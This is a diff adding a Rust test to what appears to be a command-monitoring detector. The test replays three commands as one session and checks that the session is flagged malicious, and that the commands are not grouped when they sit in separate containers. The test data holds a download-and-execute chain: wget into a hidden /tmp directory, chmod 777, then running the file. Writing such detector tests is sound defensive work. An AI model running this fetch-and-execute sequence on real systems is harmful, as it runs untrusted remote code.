@@ -166,3 +166,33 @@ fn an_evaluation_counts_found_and_false() {
     assert_eq!(result["models"][0]["at"], result["models"][1]["at"]);
     assert_eq!(result["flips"], json!([]));
 }
+
+#[test]
+fn commands_of_one_session_are_replayed_together() {
+    let dir = tempfile::tempdir().unwrap();
+    let steps = [
+        "wget -q -O /tmp/.scriptwatch/a http://127.0.0.1:9/a",
+        "chmod 777 /tmp/.scriptwatch/a",
+        "/tmp/.scriptwatch/a",
+    ];
+    let mut captures: Vec<Value> =
+        (10..).zip(steps).map(|(number, step)| capture(number, "command", None, step)).collect();
+    let file = records(&dir, &captures);
+    let shown = rows(&["replay", "--explain"], &file);
+    let session = shown.iter().position(|row| row.contains("  session  ")).expect("a session");
+    assert!(shown[session].starts_with("malicious"), "{shown:#?}");
+    assert!(shown[..session].iter().all(|row| row.starts_with("benign")), "{shown:#?}");
+    assert!(
+        shown[session..].iter().any(|row| row.trim_start().starts_with("line ") && row.contains("  it "))
+    );
+    let (findings, told, _) = sensor(&["replay", "--format", "json"], &file);
+    let finding: Value = serde_json::from_str(findings.trim()).unwrap();
+    assert_eq!(finding["sourceProperties"]["Session_Commands"].as_array().unwrap().len(), 3);
+    assert!(told.contains(" 1 malicious sessions"), "{told}");
+    // In containers of their own they have nothing to do with each other.
+    for (cgroup, capture) in (5..).zip(&mut captures) {
+        capture["cgroup"] = Value::from(cgroup);
+    }
+    let file = records(&dir, &captures);
+    assert_eq!(rows(&["replay"], &file).len(), 3);
+}
